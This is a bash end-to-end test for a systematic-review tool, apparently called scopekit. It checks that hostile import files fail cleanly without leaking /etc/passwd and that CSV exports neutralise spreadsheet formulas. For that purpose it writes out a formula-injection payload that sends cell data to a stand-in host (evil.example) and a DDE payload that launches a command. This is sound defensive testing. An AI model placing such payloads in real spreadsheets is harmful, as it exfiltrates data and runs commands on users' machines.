#!/usr/bin/env bash
# The hostile-input corpus (tests/bad/, listed in tests/bad/EXPECTED.tsv):
# each file given to the command that reads its kind, in a store of the
# worked example, must exit as listed with its message, which names the
# file and, where it has one, the line; and the store stays exactly as it
# was. Every file is listed, every listed file exists. Then the one file
# the corpus expects to be read: titles and authors that are spreadsheet
# formulas, which every CSV scopekit writes keeps as text.
. "$TESTS/e2e/lib.sh"
bad=$TESTS/bad
fx=$FIXTURES/lbp-moc

run_ok sk init --title 'Hostile input'
run_ok sk import "$fx/pubmed.nbib" --source 'MEDLINE (PubMed)'
run_ok sk import "$fx/embase.ris" --source EMBASE
run_ok sk import "$fx/scopus.ris" --source Scopus
run_ok sk import "$fx/other.ris" --source Other --kind other
run_ok sk dedupe
run_ok sk reviewer add STD DC AM
run_ok sk reasons add 'Population: not low back pain' 'Concept: not a model of care' \
	'Context: not primary healthcare' 'Published before 2000'
run_ok sk screen load "$fx/screening/ta-STD.csv"
run_ok sk screen load "$fx/screening/ta-DC.csv"
run_ok sk resolve 12 22 --stage ta --include --by DC
run_ok sk retrieve
run_ok sk screen load "$fx/screening/ft-STD.csv"
run_ok sk screen load "$fx/screening/ft-AM.csv"
run_ok sk resolve 43 --stage ft --include --by DC
run_ok sk form load "$FIXTURES/../extract_forms/pcc-lbp-moc.yaml"
while IFS=$'\t' read -r study unit refs records; do
	run_ok sk study add "$study" ${records//;/ }
	run_ok sk unit add "$unit" "$study"
done < <(tail -n +2 "$fx/charting/studies.tsv")

listed=$(grep -v '^#' "$bad/EXPECTED.tsv" | cut -f1 | sort)
present=$(cd "$bad" && ls | grep -vx -e EXPECTED.tsv -e README.md | sort)
same "$present" "$listed"

before=$(store_dump)
n=0
while IFS=$'\t' read -r file command code message; do
	case $file in '#'*) continue ;; esac
	[ "$code" = 0 ] && continue
	n=$((n + 1))
	extra=()
	[ "$command" = import ] && extra=(--source Bad)
	# shellcheck disable=SC2086 # the command is words: "screen load"
	run_fails "$code" "^scopekit: ${command%% *}: $bad/$message" sk $command "$bad/$file" "${extra[@]}"
	grep -q 'root:x:0:0' "$TMP/err" && fail "$file: /etc/passwd leaked into a message"
	same "$before" "$(store_dump)" || echo "  (the store changed: $file)" >&2
done < "$bad/EXPECTED.tsv"
same 36 "$n"

# Formulas in titles and authors are imported as text...
run_ok sk import "$bad/ris-formula-title.ris" --source 'Formulas'
id=$(sql "SELECT r.id FROM record r JOIN source s ON s.id = r.source_id WHERE s.name = 'Formulas'")
same '=HYPERLINK("http://evil.example/?leak="&A1,"Low back pain: click")' \
	"$(sql "SELECT title FROM record WHERE id = $id")"
# ...and every CSV scopekit writes starts such a cell with a quote mark.
run_ok sk records --search HYPERLINK --format csv
contains "$TMP/out" ",\"'=HYPERLINK\(\"\"http://evil.example/\?leak=\"\"&A1,\"\"Low back pain: click\"\"\)\","
contains "$TMP/out" "'@SUM\(1\+1\)\*cmd\|'/C calc'!A0"
grep -q '^=\|,=' "$TMP/out" && fail 'a bare formula in records --format csv'
run_ok sk screen sheet --reviewer STD --stage ta
contains "$TMP/out" "^$id,.*'=HYPERLINK" || head -3 "$TMP/out" >&2
grep -q ',=HYPERLINK\|,"=HYPERLINK' "$TMP/out" && fail 'a bare formula in the screening sheet'
# TSV and JSON are data for programs: the text as it is.
run_ok sk records --search HYPERLINK --format json
contains "$TMP/out" '"title": ?"=HYPERLINK'

done_testing
